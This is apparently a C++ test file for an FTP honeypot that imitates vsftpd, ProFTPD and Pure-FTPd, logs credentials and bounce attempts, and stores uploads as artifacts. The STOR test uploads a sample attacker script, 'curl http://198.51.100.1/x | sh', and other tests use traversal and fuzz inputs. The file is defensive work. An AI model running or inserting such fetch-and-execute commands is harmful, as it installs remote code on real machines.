// The FTP service per product, byte for byte through FakeConnection; the data channel through real
// sockets on the test decky's loop.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <random>
#include <regex>
#include <set>

#include "decnet/core/text.h"
#include "decnet/decoy/artifacts.h"
#include "decnet/decoy/testing.h"
#include "decnet/services/files/ftp.h"
#include "ftp_fuzz_entry.h"

namespace decnet::services::files {
namespace {

using decoy::testing::FakeConnection;
using decoy::testing::ParamOf;
using decoy::testing::TestDecky;

decoy::PersonaInputs Inputs(std::string product, std::string anonymous = "",
                            std::string users = "") {
  decoy::PersonaInputs in;
  in.settings["ftp"]["product"] = std::move(product);
  if (!anonymous.empty()) in.settings["ftp"]["anonymous"] = std::move(anonymous);
  if (!users.empty()) in.settings["ftp"]["users"] = std::move(users);
  return in;
}

// One control connection of one product.
struct Dialogue {
  explicit Dialogue(decoy::PersonaInputs in, std::string remote_ip = "203.0.113.7")
      : decky(std::move(in)), svc(MakeFtp(*decky.decky)), conn(*decky.decky, 21) {
    conn.remote_.ip = std::move(remote_ip);
    session = svc->NewSession(conn);
    session->OnOpen();
    banner = conn.Take();
  }
  ~Dialogue() {
    if (session) session->OnClose(decoy::CloseReason::kPeer);
  }
  std::string Say(std::string_view line) {
    session->OnData(std::string(line) + "\r\n");
    return conn.Take();
  }
  std::string Login() {
    Say("USER anonymous");
    return Say("PASS guest@example.com");
  }
  TestDecky decky;
  std::unique_ptr<decoy::Service> svc;
  FakeConnection conn;
  std::unique_ptr<decoy::Session> session;
  std::string banner;
};

TEST(FtpBanner, EachProductAsItShips) {
  EXPECT_EQ(Dialogue(Inputs("vsftpd")).banner, "220 (vsFTPd 3.0.3)\r\n");
  EXPECT_EQ(Dialogue(Inputs("proftpd")).banner, "220 ProFTPD Server (Debian) [::ffff:127.0.0.1]\r\n");
  const std::string pure = Dialogue(Inputs("pureftpd")).banner;
  EXPECT_EQ(pure.rfind("220---------- Welcome to Pure-FTPd [privsep] [TLS] ----------\r\n"
                       "220-You are user number 1 of 50 allowed.\r\n220-Local time is now ", 0), 0u)
      << pure;
  EXPECT_NE(pure.find(". Server port: 21.\r\n220-This is a private system - No anonymous login\r\n"
                      "220-IPv6 connections are also welcome on this server.\r\n"
                      "220 You will be disconnected after 15 minutes of inactivity.\r\n"),
            std::string::npos) << pure;
  // Pure-FTPd's banner says nothing about anonymous logins when it accepts them.
  EXPECT_EQ(Dialogue(Inputs("pureftpd", "true")).banner.find("No anonymous"), std::string::npos);
  decoy::PersonaInputs custom = Inputs("vsftpd");
  custom.settings["ftp"]["banner"] = "Welcome to blah FTP service.";
  EXPECT_EQ(Dialogue(custom).banner, "220 Welcome to blah FTP service.\r\n");
}

TEST(FtpBanner, ProductIsStablePerDeckyAndVaries) {
  std::set<std::string> seen;
  for (int i = 0; i < 24; ++i) {
    decoy::PersonaInputs in;
    in.decky = "d" + std::to_string(i);
    const std::string first = Dialogue(in).banner.substr(0, 12);
    EXPECT_EQ(Dialogue(in).banner.substr(0, 12), first);
    seen.insert(first);
  }
  EXPECT_EQ(seen.size(), 3u);
}

TEST(FtpLogin, VsftpdRefusesUsersCapturesEveryAttemptAndHangsUpAfterThree) {
  Dialogue d(Inputs("vsftpd"));
  EXPECT_EQ(d.Say("LIST"), "530 Please login with USER and PASS.\r\n");
  EXPECT_EQ(d.Say("PASS x"), "503 Login with USER first.\r\n");
  const std::string pws[] = {"hunter2", "t\xc3\xabst", std::string("a\0b \xff", 5)};
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(d.Say("USER root"), "331 Please specify the password.\r\n");
    EXPECT_FALSE(d.conn.closed);
    EXPECT_EQ(d.Say("PASS " + pws[i]), "530 Login incorrect.\r\n");
  }
  EXPECT_TRUE(d.conn.closed);
  const auto logins = d.decky.Events("login");
  ASSERT_EQ(logins.size(), 3u);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(ParamOf(logins[i], "principal"), "root");
    EXPECT_EQ(ParamOf(logins[i], "secret_kind"), "plaintext");
    EXPECT_EQ(ParamOf(logins[i], "result"), "failure");
    std::string raw;
    ASSERT_TRUE(Base64Decode(ParamOf(logins[i], "secret_b64"), &raw));
    EXPECT_EQ(raw, pws[i]);
  }
  // The password is in the credential shape only, not in the command event.
  for (const auto& c : d.decky.Events("command")) {
    if (ParamOf(c, "verb") == "PASS") {
      EXPECT_EQ(ParamOf(c, "arg"), "");
    }
  }
}

TEST(FtpLogin, AnonymousOffByDefaultOnEveryProduct) {
  Dialogue v(Inputs("vsftpd"));
  EXPECT_EQ(v.Say("USER anonymous"), "331 Please specify the password.\r\n");
  EXPECT_EQ(v.Say("PASS a@b"), "530 Login incorrect.\r\n");
  Dialogue p(Inputs("proftpd"));
  EXPECT_EQ(p.Say("USER ftp"), "331 Password required for ftp\r\n");
  EXPECT_EQ(p.Say("PASS a@b"), "530 Login incorrect.\r\n");
  Dialogue u(Inputs("pureftpd"));
  EXPECT_EQ(u.Say("USER anonymous"), "530 This is a private system - No anonymous login\r\n");
  EXPECT_EQ(u.Say("USER admin"), "331 User admin OK. Password required\r\n");
  EXPECT_EQ(u.Say("PASS admin"), "530 Login authentication failed\r\n");
}

TEST(FtpLogin, SettingsGrantUsers) {
  Dialogue d(Inputs("proftpd", "", "backup:s3cret,ops:*"));
  EXPECT_EQ(d.Say("USER backup"), "331 Password required for backup\r\n");
  EXPECT_EQ(d.Say("PASS wrong"), "530 Login incorrect.\r\n");
  EXPECT_EQ(d.Say("USER backup"), "331 Password required for backup\r\n");
  EXPECT_EQ(d.Say("PASS s3cret"), "230 User backup logged in\r\n");
  EXPECT_EQ(d.Say("USER other"), "501 Reauthentication not supported\r\n");
  const auto logins = d.decky.Events("login");
  ASSERT_EQ(logins.size(), 2u);
  EXPECT_EQ(ParamOf(logins[1], "result"), "success");
  Dialogue any(Inputs("vsftpd", "", "backup:s3cret,ops:*"));
  any.Say("USER ops");
  EXPECT_EQ(any.Say("PASS whatever"), "230 Login successful.\r\n");
}

TEST(FtpDialogue, VsftpdAnonymousSession) {
  Dialogue d(Inputs("vsftpd", "true"));
  EXPECT_EQ(d.Say("USER anonymous"), "331 Please specify the password.\r\n");
  EXPECT_EQ(d.Say("PASS guest@"), "230 Login successful.\r\n");
  EXPECT_EQ(ParamOf(d.decky.Events("login").at(0), "anonymous"), "1");
  EXPECT_EQ(d.Say("SYST"), "215 UNIX Type: L8\r\n");
  EXPECT_EQ(d.Say("FEAT"),
            "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n REST STREAM\r\n SIZE\r\n TVFS\r\n"
            "211 End\r\n");
  EXPECT_EQ(d.Say("PWD"), "257 \"/\" is the current directory\r\n");
  EXPECT_EQ(d.Say("TYPE I"), "200 Switching to Binary mode.\r\n");
  EXPECT_EQ(d.Say("TYPE A"), "200 Switching to ASCII mode.\r\n");
  EXPECT_EQ(d.Say("TYPE Z"), "500 Unrecognised TYPE command.\r\n");
  EXPECT_EQ(d.Say("CWD nothere"), "550 Failed to change directory.\r\n");
  EXPECT_EQ(d.Say("CWD pub"), "250 Directory successfully changed.\r\n");
  EXPECT_EQ(d.Say("PWD"), "257 \"/pub\" is the current directory\r\n");
  const std::string size = d.Say("SIZE README");
  EXPECT_EQ(size.rfind("213 ", 0), 0u);
  EXPECT_GT(std::stoul(size.substr(4)), 50u);
  const std::string mdtm = d.Say("MDTM /pub/notes.txt");
  EXPECT_EQ(mdtm.size(), 4u + 14u + 2u) << mdtm;
  EXPECT_EQ(d.Say("SIZE missing"), "550 Could not get file size.\r\n");
  EXPECT_EQ(d.Say("MDTM missing"), "550 Could not get file modification time.\r\n");
  EXPECT_EQ(d.Say("RETR missing"), "550 Failed to open file.\r\n");
  EXPECT_EQ(d.Say("RETR README"), "425 Use PORT or PASV first.\r\n");
  EXPECT_EQ(d.Say("CDUP"), "250 Directory successfully changed.\r\n");
  EXPECT_EQ(d.Say("CWD ../../.."), "250 Directory successfully changed.\r\n");
  EXPECT_EQ(d.Say("PWD"), "257 \"/\" is the current directory\r\n");
  EXPECT_EQ(d.Say("MLSD"), "500 Unknown command.\r\n");  // vsftpd has no MLSD
  EXPECT_EQ(d.Say("XYZZY"), "500 Unknown command.\r\n");
  EXPECT_EQ(d.Say("MKD x"), "550 Permission denied.\r\n");
  EXPECT_EQ(d.Say("NOOP"), "200 NOOP ok.\r\n");
  EXPECT_EQ(d.Say("REST 10"), "350 Restart position accepted (10).\r\n");
  EXPECT_EQ(d.Say("USER bob"), "530 Can't change to another user.\r\n");
  EXPECT_EQ(d.Say("QUIT"), "221 Goodbye.\r\n");
  EXPECT_TRUE(d.conn.closed);
  // Every command is an event with its verb and argument.
  const auto cmds = d.decky.Events("command");
  ASSERT_GE(cmds.size(), 10u);
  EXPECT_EQ(ParamOf(cmds[0], "verb"), "USER");
  EXPECT_EQ(ParamOf(cmds[0], "arg"), "anonymous");
  EXPECT_EQ(ParamOf(cmds.back(), "verb"), "QUIT");
}

TEST(FtpDialogue, ProftpdWording) {
  Dialogue d(Inputs("proftpd", "true"));
  EXPECT_EQ(d.Say("HELP").rfind("214-The following commands are recognized (* =>'s unimplemented):\r\n", 0), 0u);
  EXPECT_EQ(d.Say("LIST"), "530 Please login with USER and PASS\r\n");
  EXPECT_EQ(d.Say("USER anonymous"),
            "331 Anonymous login ok, send your complete email address as your password\r\n");
  EXPECT_EQ(d.Say("PASS me@"), "230 Anonymous access granted, restrictions apply\r\n");
  EXPECT_EQ(d.Say("CWD /pub"), "250 CWD command successful\r\n");
  EXPECT_EQ(d.Say("CWD nope"), "550 nope: No such file or directory\r\n");
  EXPECT_EQ(d.Say("TYPE I"), "200 Type set to I\r\n");
  EXPECT_EQ(d.Say("SIZE nope"), "550 nope: No such file or directory\r\n");
  EXPECT_EQ(d.Say("FOO bar"), "500 FOO not understood\r\n");
  EXPECT_EQ(d.Say(""), "500 Invalid command: try being more creative\r\n");
  EXPECT_EQ(d.Say("NOOP"), "200 NOOP command successful\r\n");
  EXPECT_EQ(d.Say("QUIT"), "221 Goodbye.\r\n");
}

TEST(FtpDialogue, PureftpdWording) {
  Dialogue d(Inputs("pureftpd", "true"));
  EXPECT_EQ(d.Say("PWD"), "530 You aren't logged in\r\n");
  // Pure-FTPd lets anonymous in on USER alone.
  EXPECT_EQ(d.Say("USER ftp"), "230 Anonymous user logged in\r\n");
  EXPECT_EQ(d.Say("PWD"), "257 \"/\" is your current location\r\n");
  EXPECT_EQ(d.Say("CWD pub"), "250 OK. Current directory is /pub\r\n");
  EXPECT_EQ(d.Say("TYPE I"), "200 TYPE is now 8-bit binary\r\n");
  EXPECT_EQ(d.Say("NOOP"), "200 Zzz...\r\n");
  EXPECT_EQ(d.Say("LIST"), "425 No data connection\r\n");
  EXPECT_EQ(d.Say("ABOR"), "226 Since you see this ABOR must've succeeded\r\n");
  EXPECT_EQ(d.Say("QUIT"), "221-Goodbye. You uploaded 0 and downloaded 0 kbytes.\r\n221 Logout.\r\n");
}

TEST(FtpPort, ForeignAddressRefusedOwnAddressAcceptedNeverConnected) {
  Dialogue d(Inputs("vsftpd", "true"));
  d.Login();
  EXPECT_EQ(d.Say("PORT 198,51,100,9,4,1"), "500 Illegal PORT command.\r\n");
  EXPECT_EQ(d.Say("EPRT |1|198.51.100.9|1025|"), "500 Illegal EPRT command.\r\n");
  EXPECT_EQ(d.Say("PORT 1,2,3"), "500 Illegal PORT command.\r\n");
  EXPECT_EQ(d.Say("PORT 203,0,113,7,0,21"), "500 Illegal PORT command.\r\n");  // privileged port
  EXPECT_EQ(d.Say("PORT 203,0,113,7,4,1"), "200 PORT command successful. Consider using PASV.\r\n");
  EXPECT_EQ(d.Say("LIST"), "425 Failed to establish connection.\r\n");
  EXPECT_EQ(d.Say("EPRT |1|203.0.113.7|50000|"), "200 EPRT command successful. Consider using EPSV.\r\n");
  EXPECT_EQ(d.Say("RETR /pub/README"), "425 Failed to establish connection.\r\n");
  const auto ports = d.decky.Events("port");
  ASSERT_EQ(ports.size(), 5u);  // the malformed one is counted, not a target
  EXPECT_EQ(ParamOf(ports[0], "target_ip"), "198.51.100.9");
  EXPECT_EQ(ParamOf(ports[0], "target_port"), "1025");
  EXPECT_EQ(ParamOf(ports[0], "bounce"), "1");
  EXPECT_EQ(ParamOf(ports[0], "accepted"), "0");
  EXPECT_EQ(ParamOf(ports[3], "bounce"), "0");
  EXPECT_EQ(ParamOf(ports[3], "accepted"), "1");
  EXPECT_EQ(d.decky.decky->open_connections(), 0u);  // nothing was dialled
  Dialogue p(Inputs("pureftpd", "true"));
  p.Say("USER ftp");
  EXPECT_EQ(p.Say("PORT 198,51,100,9,4,1"),
            "500 I won't open a connection to 198.51.100.9 (only to 203.0.113.7)\r\n");
  EXPECT_EQ(p.Say("PORT 203,0,113,7,4,1"), "200 PORT command successful\r\n");
  EXPECT_EQ(p.Say("NLST"), "425 Could not open data connection to port 1025: Connection refused\r\n");
}

TEST(FtpHostile, GarbageAndOverlongLines) {
  Dialogue d(Inputs("vsftpd"));
  EXPECT_EQ(d.Say(std::string("\0\0\xff\xfe", 4)), "500 Unknown command.\r\n");
  EXPECT_EQ(d.Say("GET / HTTP/1.0"), "530 Please login with USER and PASS.\r\n");
  d.session->OnData("USER a\rb\r\n");
  EXPECT_EQ(d.conn.Take(), "331 Please specify the password.\r\n");
  d.session->OnData(std::string(5000, 'A'));
  d.session->OnData("AAAA\r\n");
  EXPECT_EQ(d.conn.Take(), "500 Unknown command.\r\n");
  EXPECT_EQ(d.decky.counters.lines_too_long, 1u);
  EXPECT_FALSE(d.conn.closed);
  // A CR or LF inside an argument cannot forge an event line.
  for (const auto& l : d.decky.sink->lines) EXPECT_EQ(l.find_first_of("\r\n"), std::string::npos);
  EXPECT_EQ(d.Say("NOOP"), "530 Please login with USER and PASS.\r\n");

  Dialogue p(Inputs("pureftpd"));
  p.session->OnData(std::string(3000, 'B') + "\r\n");
  EXPECT_EQ(p.conn.Take(), "421 Line too long\r\n");
  EXPECT_TRUE(p.conn.closed);
}

TEST(FtpIdle, EachProductWordsItsTimeout) {
  Dialogue v(Inputs("vsftpd"));
  EXPECT_EQ(v.conn.timer_ms, 179000u);  // the product's 300 s, under the runtime's idle bound
  v.conn.FireTimer();
  EXPECT_EQ(v.conn.Take(), "421 Timeout.\r\n");
  EXPECT_TRUE(v.conn.closed);
  decoy::PersonaInputs in = Inputs("proftpd");
  in.settings["ftp"]["idle_timeout"] = "30";
  Dialogue p(in);
  EXPECT_EQ(p.conn.timer_ms, 30000u);
  p.conn.FireTimer();
  EXPECT_EQ(p.conn.Take(), "421 Idle timeout (30 seconds): closing control connection\r\n");
  Dialogue u(Inputs("pureftpd"));
  u.conn.FireTimer();
  EXPECT_EQ(u.conn.Take(), "421 Timeout - try typing a little faster next time\r\n");
}

// ---- data channel over real sockets

int ConnectTo(uint16_t port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(port);
  sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  EXPECT_EQ(connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
  return fd;
}

std::string ReadAll(TestDecky& td, int fd) {
  std::string out;
  char buf[4096];
  bool eof = false;
  td.RunUntil([&] {
    ssize_t n = recv(fd, buf, sizeof buf, MSG_DONTWAIT);
    if (n > 0) out.append(buf, static_cast<size_t>(n));
    if (n == 0) eof = true;
    return eof;
  });
  EXPECT_TRUE(eof);
  close(fd);
  return out;
}

uint16_t EpsvPort(const std::string& reply) {
  const size_t a = reply.find("|||");
  return static_cast<uint16_t>(std::stoul(reply.substr(a + 3)));
}

TEST(FtpData, ListRetrAndStoreThroughPassive) {
  for (const char* product : {"vsftpd", "proftpd", "pureftpd"}) {
    SCOPED_TRACE(product);
    Dialogue d(Inputs(product, "true"), "127.0.0.1");
    d.Say("USER anonymous");
    if (std::string(product) != "pureftpd") d.Say("PASS x@");
    d.Say("CWD /pub");
    // LIST before the client connects: 150 waits for the connection.
    const uint16_t port = EpsvPort(d.Say("EPSV"));
    EXPECT_EQ(d.Say("LIST -la"), "");
    int fd = ConnectTo(port);
    const std::string listing = ReadAll(d.decky, fd);
    d.decky.RunUntil([&] { return d.conn.output.find("226") != std::string::npos; });
    const std::string ctl = d.conn.Take();
    EXPECT_EQ(ctl.rfind("150", 0), 0u) << ctl;
    EXPECT_NE(ctl.find("226"), std::string::npos) << ctl;
    EXPECT_NE(listing.find(" README\r\n"), std::string::npos) << listing;
    EXPECT_NE(listing.find("-rw-r--r--"), std::string::npos) << listing;
    EXPECT_NE(listing.find(".tar.gz\r\n"), std::string::npos) << listing;
    // Each product's own ls -l columns.
    const char* kColumns[] = {R"(-rw-r--r--    1 0        0        [ 0-9]{8} )",
                              R"(-rw-r--r--   1 root     root     [ 0-9]{8} )",
                              R"(-rw-r--r--    1 0          0          [ 0-9]{10} )"};
    const int idx = std::string(product) == "vsftpd" ? 0 : std::string(product) == "proftpd" ? 1 : 2;
    EXPECT_TRUE(std::regex_search(
        listing, std::regex(std::string(kColumns[idx]) + R"([A-Z][a-z]{2} [ 0-9][0-9] [ 0-9][0-9:]{4} README\r\n)")))
        << listing;
    ASSERT_EQ(d.decky.Events("data_open").size(), 1u);
    EXPECT_EQ(ParamOf(d.decky.Events("data_open")[0], "control_session"), "7");

    // RETR after the client connected (PASV this time); size as SIZE said.
    const std::string pasv = d.Say("PASV");
    ASSERT_EQ(pasv.rfind("227 Entering Passive Mode (127,0,0,1,", 0), 0u) << pasv;
    unsigned h[6];
    ASSERT_EQ(std::sscanf(pasv.c_str() + pasv.find('(') + 1, "%u,%u,%u,%u,%u,%u", &h[0], &h[1],
                          &h[2], &h[3], &h[4], &h[5]), 6);
    fd = ConnectTo(static_cast<uint16_t>(h[4] * 256 + h[5]));
    d.decky.RunUntil([&] { return d.decky.decky->open_connections() == 1; });
    const std::string size = d.Say("SIZE README");
    d.Say("TYPE I");
    d.conn.Take();
    d.session->OnData("RETR README\r\n");
    const std::string body = ReadAll(d.decky, fd);
    EXPECT_EQ(std::to_string(body.size()), size.substr(4, size.size() - 6));
    EXPECT_NE(body.find("Public files of "), std::string::npos);
    d.decky.RunUntil([&] { return d.conn.output.find("226") != std::string::npos; });
    EXPECT_NE(d.conn.Take().find("226"), std::string::npos);
    EXPECT_EQ(d.decky.Events("download").size(), 1u);

    // STOR: the upload is an artifact with its SHA-256.
    const uint16_t up = EpsvPort(d.Say("EPSV"));
    fd = ConnectTo(up);
    d.Say("STOR /upload/x.sh");
    const std::string payload = "#!/bin/sh\ncurl http://198.51.100.1/x | sh\n" + std::string(70000, 'z');
    ASSERT_EQ(send(fd, payload.data(), payload.size(), 0), static_cast<ssize_t>(payload.size()));
    close(fd);
    d.decky.RunUntil([&] { return d.conn.output.find("226") != std::string::npos; });
    const std::string done = d.conn.Take();
    EXPECT_EQ(done.rfind("150", 0), 0u) << done;
    EXPECT_NE(done.find("226"), std::string::npos) << done;
    const auto ups = d.decky.Events("upload");
    ASSERT_EQ(ups.size(), 1u);
    EXPECT_EQ(ParamOf(ups[0], "sha256"), decoy::Sha256Hex(payload));
    EXPECT_EQ(ParamOf(ups[0], "size"), std::to_string(payload.size()));
    EXPECT_EQ(ParamOf(ups[0], "filename"), "/upload/x.sh");
    struct stat st;
    EXPECT_EQ(stat((d.decky.artifact_dir + "/" + decoy::Sha256Hex(payload)).c_str(), &st), 0);
    EXPECT_EQ(static_cast<size_t>(st.st_size), payload.size());
    // The upload is listed afterwards (0600), with its size, and not served back.
    EXPECT_EQ(d.Say("SIZE /upload/x.sh"), "213 " + std::to_string(payload.size()) + "\r\n");
    const uint16_t again = EpsvPort(d.Say("EPSV"));
    fd = ConnectTo(again);
    d.Say("NLST /upload");
    EXPECT_EQ(ReadAll(d.decky, fd), "x.sh\r\n");
    d.decky.RunUntil([&] { return d.conn.output.find("226") != std::string::npos; });
    d.conn.Take();
    const std::string refused = d.Say("RETR /upload/x.sh");
    EXPECT_EQ(refused.rfind("550 ", 0), 0u) << refused;
  }
}

TEST(FtpData, MlsdInTheProductsFacts) {
  Dialogue d(Inputs("proftpd", "true"), "127.0.0.1");
  d.Login();
  const uint16_t port = EpsvPort(d.Say("EPSV"));
  int fd = ConnectTo(port);
  d.Say("MLSD /pub");
  const std::string facts = ReadAll(d.decky, fd);
  EXPECT_NE(facts.find(";type=cdir;"), std::string::npos) << facts;
  EXPECT_NE(facts.find(";type=file;unique="), std::string::npos) << facts;
  EXPECT_NE(facts.find("UNIX.ownername=root; README\r\n"), std::string::npos) << facts;
}

TEST(FtpData, ConnectionFromAnotherAddressIsRefused) {
  Dialogue d(Inputs("vsftpd", "true"));  // control from 203.0.113.7, data comes from 127.0.0.1
  d.Login();
  const uint16_t port = EpsvPort(d.Say("EPSV"));
  d.Say("LIST");
  int fd = ConnectTo(port);
  EXPECT_EQ(ReadAll(d.decky, fd), "");
  d.decky.RunUntil([&] { return !d.conn.output.empty(); });
  EXPECT_EQ(d.conn.Take(), "425 Security: Bad IP connecting.\r\n");
  EXPECT_EQ(d.decky.Events("data_refused").size(), 1u);
}

TEST(FtpParse, Arguments) {
  std::string ip;
  uint16_t port = 0;
  EXPECT_TRUE(ParsePortArg("10,0,0,1,200,10", &ip, &port));
  EXPECT_EQ(ip, "10.0.0.1");
  EXPECT_EQ(port, 200 * 256 + 10);
  EXPECT_FALSE(ParsePortArg("10,0,0,1,200", &ip, &port));
  EXPECT_FALSE(ParsePortArg("10,0,0,1,200,10,1", &ip, &port));
  EXPECT_FALSE(ParsePortArg("256,0,0,1,1,1", &ip, &port));
  EXPECT_FALSE(ParsePortArg("a,b,c,d,e,f", &ip, &port));
  EXPECT_TRUE(ParseEprtArg("|2|::1|6446|", &ip, &port));
  EXPECT_EQ(ip, "::1");
  EXPECT_EQ(port, 6446);
  EXPECT_FALSE(ParseEprtArg("|1|::1|6446|", &ip, &port));
  EXPECT_FALSE(ParseEprtArg("|1|1.2.3.4|70000|", &ip, &port));
  EXPECT_FALSE(ParseEprtArg("|3|1.2.3.4|7|", &ip, &port));
  EXPECT_EQ(ResolveFtpPath("/pub", "../etc/./passwd"), "/etc/passwd");
  EXPECT_EQ(ResolveFtpPath("/pub", "/../../.."), "/");
  EXPECT_EQ(ResolveFtpPath("/", ""), "/");
  FtpCommand c;
  EXPECT_TRUE(ParseFtpCommand("retr  a b", &c));
  EXPECT_EQ(c.verb, "RETR");
  EXPECT_EQ(c.arg, " a b");
  EXPECT_FALSE(ParseFtpCommand("", &c));
  EXPECT_FALSE(ParseFtpCommand("R\x01TR x", &c));
  EXPECT_FALSE(ParseFtpCommand(std::string(17, 'A'), &c));
}

TEST(FtpFuzzEntry, HostileInputs) {
  std::vector<std::string> inputs = {
      "", "\r\n", std::string(600, 'A'), "USER anonymous\r\nPASS x\r\nEPSV\r\nLIST\r\nQUIT\r\n",
      "USER ftp\r\nPORT 1,2,3,4,5,6\r\nRETR /pub/README\r\nSTOR\r\nAPPE x\r\nSTOU\r\n",
      std::string("\xff\xf4\xff\xf2" "ABOR\r\n\0\0\0\n", 12), "CWD " + std::string(300, '/') + "..\n",
      "EPRT |2|::ffff:1.2.3.4|1|\r\nEPRT ||||\r\nREST 99999999999999999999999\r\n"};
  std::mt19937 rng(7);
  for (int i = 0; i < 60; ++i) {
    std::string s(rng() % 400, '\0');
    for (char& c : s) c = static_cast<char>(rng() % 4 == 0 ? '\n' : rng() % 256);
    inputs.push_back("USER anonymous\r\nPASS a\r\n" + s);
  }
  for (const auto& in : inputs)
    fuzz::FtpSessionBytes(reinterpret_cast<const uint8_t*>(in.data()), in.size());
}

}  // namespace
}  // namespace decnet::services::files
